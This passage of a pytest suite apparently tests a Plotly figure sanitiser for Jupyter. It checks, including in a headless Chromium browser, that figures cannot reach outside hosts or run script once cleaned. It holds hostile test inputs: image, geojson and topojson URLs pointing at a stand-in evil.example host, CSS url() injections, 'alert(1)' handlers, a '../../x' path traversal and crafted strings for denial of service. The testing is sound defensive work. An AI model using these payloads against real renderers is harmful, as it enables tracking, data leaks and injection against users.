    assert again["layout"]["updatemenus"][0]["buttons"][0] == honest
    assert_nothing_leaves(clean)


def test_animation_arguments_and_inline_frames():
    fig = as_sent(px.scatter(x=[1, 2], y=[1, 2], animation_frame=["a", "b"]))
    honest = validate_figure(fig)
    assert honest["layout"] == fig["layout"] and honest["frames"] == fig["frames"]
    fig["layout"]["sliders"][0]["steps"][0]["args"] = [
        [{"name": "x", "layout": {"images": [{"source": EVIL}]}, "data": [{"type": "scatter", "text": [EVIL]}]}],
        {"frame": {"duration": 0, "redraw": "url(x)"}, "transition": {"easing": "cubic-in-out"}, "evil": EVIL}]
    clean = validate_figure(fig)
    args = clean["layout"]["sliders"][0]["steps"][0]["args"]
    assert args[0][0]["layout"] == {"images": [{}]}
    assert args[1] == {"frame": {"duration": 0}, "transition": {"easing": "cubic-in-out"}}
    assert_nothing_leaves({**clean, "data": [], "frames": []})


# -- structure, config, limits ------------------------------------------------------------------------


def test_unknown_keys_are_dropped_everywhere():
    fig = {"data": [{"type": "scatter", "y": [1], "onclick": "alert(1)", "marker": {"src": EVIL, "size": 3},
                     "xsrc": "user:1:abc", "stream": {"token": "secret", "maxpoints": 3}}],
           "layout": {"foo": EVIL, "xaxis": {"bar": 1, "title": {"text": "t", "href": EVIL}},
                      "template": "plotly_dark"},
           "frames": [{"name": "f", "extra": EVIL}], "script": "alert(1)"}
    clean = validate_figure(fig)
    trace = clean["data"][0]
    assert trace == {"type": "scatter", "y": [1], "marker": {"size": 3},
                     **({"stream": {"maxpoints": 3}} if "stream" in trace else {})}
    assert clean["layout"] == {"xaxis": {"title": {"text": "t"}}}
    assert clean["frames"] == [{"name": "f"}]
    assert set(clean) == {"data", "layout", "frames", "config"}


def test_values_of_the_wrong_kind_are_dropped():
    fig = {"data": [{"type": "scatter", "y": [1], "mode": "markers+evil", "opacity": "url(x)",
                     "marker": {"color": "url(https://evil.example)", "symbol": "evil", "size": [1, "2", "x"],
                                "colorscale": [[0, "red"], [1, "url(x)"]],
                                "line": {"color": "red;background:url(x)"}},
                     "line": {"dash": "url(x)"}, "xaxis": "x2", "yaxis": "evil",
                     "textfont": {"family": "Arial;background:url(https://evil.example)", "size": 3},
                     "hoverlabel": {"font": {"family": "'Open Sans', verdana, arial, sans-serif"}}}],
           "layout": {"xaxis2": {"showgrid": "yes"}, "colorway": ["red", "url(x)"], "width": "500"}}
    clean = validate_figure(fig)
    t = clean["data"][0]
    assert t == {"type": "scatter", "y": [1], "marker": {"line": {}}, "line": {}, "xaxis": "x2",
                 "textfont": {"size": 3}, "hoverlabel": {"font": {"family": "'Open Sans', verdana, arial, sans-serif"}}}
    assert clean["layout"] == {"xaxis2": {}, "width": "500"}


def test_config_keeps_only_page_behaviour():
    config = {"responsive": True, "displayModeBar": "hover", "scrollZoom": "cartesian+geo",
              "plotlyServerURL": EVIL, "showLink": True, "linkText": "x", "sendData": True, "showSources": True,
              "showEditInChartStudio": True, "mapboxAccessToken": "pk", "topojsonURL": EVIL,
              "typesetMath": True, "locales": {"x": {}}, "locale": "fr", "setBackground": "alert(1)",
              "modeBarButtonsToAdd": [{"name": "x", "click": "alert(1)"}], "modeBarButtonsToRemove": ["zoom2d"],
              "toImageButtonOptions": {"format": "svg", "filename": "../../x", "width": 5}}
    clean = validate_figure({"data": [], "config": config})["config"]
    assert clean == {"responsive": True, "displayModeBar": "hover", "scrollZoom": "cartesian+geo",
                     "locale": "fr", "modeBarButtonsToRemove": ["zoom2d"],
                     "toImageButtonOptions": {"format": "svg", "width": 5},
                     "topojsonURL": SAFE_TOPOJSON_URL, "typesetMath": False}


@pytest.mark.parametrize("bad,why", [
    ({"data": "nope"}, "data"), ([], "data"), ({"data": [1]}, "object"), ({"data": [{"type": "nosuch"}]}, "unknown"),
    ({"data": [{"x": object()}]}, "non-JSON"), ({"data": [{"meta": {1: "x"}}]}, "strings"),
    ({"data": [], "layout": "x"}, "layout"),
])
def test_figures_that_are_not_figures_are_rejected(bad, why):
    with pytest.raises(FigureRejected, match=why):
        validate_figure(bad)
    assert issubclass(FigureRejected, ValueError)


def test_depth_is_capped_without_recursion():
    deep = 1
    for _ in range(100_000):  # far past Python's recursion limit
        deep = [deep]
    with pytest.raises(FigureRejected, match="deeply"):
        validate_figure({"data": [{"type": "scatter", "customdata": deep}]})
    deep = {}
    for _ in range(100_000):
        deep = {"k": deep}
    with pytest.raises(FigureRejected, match="deeply"):
        validate_figure({"data": [{"type": "scatter", "meta": deep}]})
    coords = 0
    for _ in range(100_000):
        coords = [coords]
    with pytest.raises(FigureRejected, match="deeply"):
        validate_figure({"data": [{"type": "choropleth", "geojson": {"type": "Polygon", "coordinates": coords}}]})


def test_shared_objects_are_refused():
    """A structure that shares one list in many places is exponentially large as JSON; only a
    cell's in-process object could be one, and the walk refuses it instead of expanding it."""
    row: list = [1]
    for _ in range(60):
        row = [row, row]
    with pytest.raises(FigureRejected, match="shares"):
        validate_figure({"data": [{"type": "scatter", "customdata": row}]})
    cells = [1.0] * 1000
    with pytest.raises(FigureRejected, match="shares"):
        validate_figure({"data": [{"type": "scatter", "customdata": [cells] * 1000}]})


def test_work_is_linear_in_the_figure(monkeypatch):
    """Counts the walk's tasks (no timing): a figure twice as big costs at most twice the tasks."""
    counts = []
    real_push = plotlyfigure._Walk.push

    def counting_push(self, *a):
        counts[-1] += 1
        return real_push(self, *a)

    monkeypatch.setattr(plotlyfigure._Walk, "push", counting_push)
    for n in (100, 200, 400):
        counts.append(0)
        traces = [{"type": "scatter", "y": list(range(1000)), "text": ["a<b>"] * 100,
                   "marker": {"color": ["red"] * 100}, "customdata": [[i, "x"] for i in range(50)]}] * 1
        fig = {"data": [json.loads(json.dumps(t)) for t in traces * n],
               "layout": {"annotations": [{"text": "t", "x": i} for i in range(n)]}}
        validate_figure(fig)
    assert counts[1] <= 2 * counts[0] + 10 and counts[2] <= 2 * counts[1] + 10


# -- in a real browser: plotly.js itself, every request on the record -----------------------------------

CHROMIUM = "/usr/lib/chromium/chromium"  # Debian's binary without its wrapper (no Google services)
BROWSER_ATTACKS = {
    "layout image": {"data": [{"type": "scatter", "y": [1, 2]}], "layout": {"images": [
        {"source": EVIL + "/img.png", "x": 0, "y": 1, "sizex": 1, "sizey": 1, "xref": "paper", "yref": "paper"}]}},
    "geojson url": {"data": [{"type": "choropleth", "geojson": EVIL + "/geo.json", "locations": ["a"], "z": [1]}]},
    "topojson cdn": {"data": [{"type": "choropleth", "locations": ["FRA"], "z": [1]}]},
    "topojson config": {"data": [{"type": "scattergeo", "lat": [1], "lon": [2]}],
                        "config": {"topojsonURL": EVIL + "/topo/"}},
    "markup style": {"data": [{"type": "scatter", "y": [1, 2]}],
                     "layout": {"title": {"text": '<span style="cursor:url(https://evil.example/c.cur),auto">T</span>'}}},
    "menu button": {"data": [{"type": "scatter", "y": [1, 2]}], "layout": {"updatemenus": [{"buttons": [
        {"method": "relayout", "label": "x", "args": [{"images": [{"source": EVIL + "/btn.png", "x": 0, "y": 1,
                                                                   "sizex": 1, "sizey": 1, "xref": "paper",
                                                                   "yref": "paper"}]}]}]}]}},
    "map default style": {"data": [{"type": "scattermap", "lat": [1], "lon": [2]}]},
    "map glyphs": {"data": [{"type": "scattermap", "lat": [1], "lon": [2], "mode": "markers+text", "text": ["a"]}],
                   "layout": {"map": {"style": "white-bg"}}},
    "map icon": {"data": [{"type": "scattermap", "lat": [1], "lon": [2], "marker": {"symbol": "airport"}}],
                 "layout": {"map": {"style": "white-bg"}}},
}
# What the JupyterLab renderer does with a figure (jupyterlab-plotly's createGraph), then every
# update-menu button pressed (a click calls the same API with the same arguments).
RENDER = """async (fig) => {
    const gd = document.getElementById('g');
    Plotly.purge(gd);
    window.PlotlyGeoAssets = {topojson: {}};  // plotly.js caches fetched topologies page-wide
    let error = null;
    const work = (async () => {
        try {
            await Plotly.react(gd, fig.data, fig.layout || {}, fig.config || {});
            if (fig.frames) await Plotly.addFrames(gd, fig.frames);
            for (const menu of (fig.layout && fig.layout.updatemenus) || [])
                for (const b of menu.buttons || []) if (b.args) await Plotly[b.method || 'restyle'](gd, ...b.args);
        } catch (e) { error = String(e); }
    })();
    await Promise.race([work, new Promise(r => setTimeout(r, 8000))]);
    const links = [...gd.querySelectorAll('a')].map(a => a.getAttribute('href') || a.getAttribute('xlink:href'))
        .filter(h => h && !h.startsWith('https://plotly.com'));  // the mode bar's own logo link
    const styles = [...gd.querySelectorAll('[style]')].map(e => e.getAttribute('style'))
        .filter(s => /url\\((?!["']?#)/.test(s));  // url(#clip...) is plotly's own same-document clipping
    return {error, links, styles};
}"""


@pytest.fixture(scope="module")
def plotly_page(tmp_path_factory):
    """A page served from loopback with the plotly.js that JupyterLab renders figures with; every
    request to anywhere else is recorded and refused."""
    import os
    import shutil
    import threading
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

    sync_api = pytest.importorskip("playwright.sync_api")
    if not os.access(CHROMIUM, os.X_OK):
        pytest.skip(f"Chromium is not installed at {CHROMIUM}")
    site = tmp_path_factory.mktemp("site")
    shutil.copy(os.path.join(os.path.dirname(plotly.__file__), "package_data", "plotly.min.js"), site)
    (site / "index.html").write_text("<html><head><script src='plotly.min.js'></script></head>"
                                     "<body><div id=g style='width:600px;height:400px'></div></body></html>")

    class Handler(SimpleHTTPRequestHandler):
        def __init__(self, *a, **k):
            super().__init__(*a, directory=str(site), **k)

        def log_message(self, *a):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    origin = f"http://127.0.0.1:{server.server_address[1]}/"
    requests: list[str] = []

    def route(r):
        if r.request.url.startswith(origin):
            return r.continue_()
        requests.append(r.request.url)
        return r.abort()

    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=["--no-sandbox"])
        page = browser.new_page()
        page.route("**/*", route)
        page.goto(origin + "index.html")
        page.wait_for_function("() => window.Plotly")

        def render(fig, expect_request: bool = False):
            requests.clear()
            result = page.evaluate(RENDER, fig)
            # Fetches start asynchronously: give them time to show (a control waits until one does).
            for _ in range(40 if expect_request else 6):
                if requests and expect_request:
                    break
                page.wait_for_timeout(250)
            return result, sorted(set(requests))

        render.page = page
        yield render
        browser.close()
    server.shutdown()


@pytest.mark.parametrize("name", sorted(BROWSER_ATTACKS))
def test_in_the_browser_the_attack_fetches_and_the_clean_figure_does_not(plotly_page, name):
    fig = BROWSER_ATTACKS[name]
    if fig["data"][0]["type"] not in plotlyfigure.schema().traces:
        pytest.skip(f"this plotly has no {fig['data'][0]['type']}")
    raw_result, raw_requests = plotly_page(json.loads(json.dumps(fig)), expect_request=True)
    assert raw_requests or raw_result["styles"], f"control: the raw figure should reach out ({raw_result})"
    clean = validate_figure(json.loads(json.dumps(fig)))
    result, requests = plotly_page(clean)
    assert requests == [], requests
    assert result == {"error": None, "links": [], "styles": []}


def test_in_the_browser_honest_figures_draw_without_errors_or_requests(plotly_page):
    for name in ("scatter", "choropleth", "scatter_geo", "annotated", "animation", "dropdown", "sankey", "table"):
        result, requests = plotly_page(validate_figure(HONEST[name]))
        assert (name, requests, result["error"]) == (name, [], None)


def test_in_the_browser_packed_numbers_draw_as_the_numbers(plotly_page):
    """Issue 11, 8: lists the kernel packed into typed arrays (ints, floats, marker arrays, a heatmap's
    rows) are decoded by plotly.js into the same numbers, without errors or requests."""
    x = list(range(3000))
    y = [i / 7 - 100.25 for i in x]
    rows = [[i * 40 + j for j in range(40)] for i in range(30)]
    fig = {"data": [{"type": "scatter", "x": x, "y": y, "mode": "markers",
                     "marker": {"size": [4 + i % 3 for i in x], "color": [float(i) for i in x]}},
                    {"type": "heatmap", "z": rows, "xaxis": "x2", "yaxis": "y2"}],
           "layout": {"xaxis2": {"domain": [0.6, 1]}, "xaxis": {"domain": [0, 0.5]}, "yaxis2": {"anchor": "x2"}}}
    clean = validate_figure(json.loads(json.dumps(fig)))
    trace, heat = clean["data"]
    assert (trace["x"]["dtype"], trace["y"]["dtype"], trace["marker"]["size"]["dtype"], heat["z"]["dtype"],
            heat["z"]["shape"]) == ("i2", "f8", "i1", "i2", "30, 40")
    result, requests = plotly_page(clean)
    assert (requests, result["error"]) == ([], None)
    drawn = plotly_page.page.evaluate("""() => {
        const d = document.getElementById('g')._fullData;
        return {x: Array.from(d[0].x), y: Array.from(d[0].y), size: Array.from(d[0].marker.size),
                color: Array.from(d[0].marker.color), z: d[1].z.map(r => Array.from(r)),
                points: document.querySelectorAll('.scatterlayer .point').length};
    }""")
    assert drawn["x"] == x and drawn["y"] == y and drawn["size"] == [4 + i % 3 for i in x]
    assert drawn["color"] == [float(i) for i in x] and drawn["z"] == rows and drawn["points"] == 3000


def test_junk_keys_leave_nothing_behind_in_the_kernel():
    """The schema is built lazily and lives as long as the kernel: a figure's unknown keys (in
    traces, layout, or update-menu arguments) must not be remembered."""
    sch = plotlyfigure.schema()
    validate_figure({"data": [{"type": "scatter", "y": [1]}], "layout": {"xaxis": {"title": {"text": "t"}}}})

    def remembered():
        return sum(len(node.fields) for node in sch.built.values()) + len(sch.restyle_nodes)

    before = remembered()
    junk = {f"junk{i}": i for i in range(5000)}
    validate_figure({"data": [{"type": "scatter", "y": [1], **junk, "marker": dict(junk)}],
                     "layout": {**junk, "xaxis": dict(junk), "updatemenus": [{"buttons": [
                         {"method": "restyle", "args": [{f"marker.junk{i}": 1 for i in range(5000)}]},
                         {"method": "relayout", "args": [dict(junk)]}]}]}})
    assert remembered() - before < 50


def test_update_arguments_have_a_budget_per_figure():
    """Each attribute in a menu's arguments is looked up for every trace type: a figure gets
    MAX_UPDATE_KEYS of them in all, so junk arguments cannot keep the kernel busy."""
    limit = plotlyfigure.MAX_UPDATE_KEYS
    update = {f"x[{i}]": i for i in range(limit + 500)}
    junk = {f"junk{i}": 1 for i in range(limit * 5)}
    fig = {"data": [{"type": "scatter", "y": [1]}], "layout": {"updatemenus": [{"buttons": [
        {"method": "restyle", "args": [update]}, {"method": "restyle", "args": [junk]},
        {"method": "restyle", "args": [{"visible": [True]}]}]}]}}
    buttons = validate_figure(fig)["layout"]["updatemenus"][0]["buttons"]
    assert len(buttons[0]["args"][0]) == limit
    assert buttons[1]["args"] == [{}] and buttons[2]["args"] == [{}]
    honest = validate_figure({"data": [], "layout": {"updatemenus": [{"buttons": [
        {"method": "restyle", "args": [{"visible": [True] * 10}]}] * 1}]}})
    assert honest["layout"]["updatemenus"][0]["buttons"][0]["args"] == [{"visible": [True] * 10}]


@pytest.mark.parametrize("text", [
    "<span " + 'style="' * 50_000 + ">",  # the style regex would rescan the tag from every `style="`
    "<b " + "&#" + "9" * 100_000 + ";>",  # int() of 100k digits raises past Python's digit limit
    "<b>" * 50_000 + "<" * 50_000,
])
def test_markup_cleaning_is_linear_on_crafted_strings(text):
    cleaned = clean_markup(text)
    assert not live_markup(cleaned)


def test_numbers_as_text_are_checked_without_backtracking():
    digits = "1" * 100_000 + "x"
    clean = validate_figure({"data": [{"type": "scatter", "y": [1], "opacity": digits, "marker": {"size": [digits, "3"]}}],
                             "layout": {"width": "500", "height": " 1e3 "}})
    assert "opacity" not in clean["data"][0] and "size" not in clean["data"][0]["marker"]
    assert clean["layout"] == {"width": "500", "height": " 1e3 "}
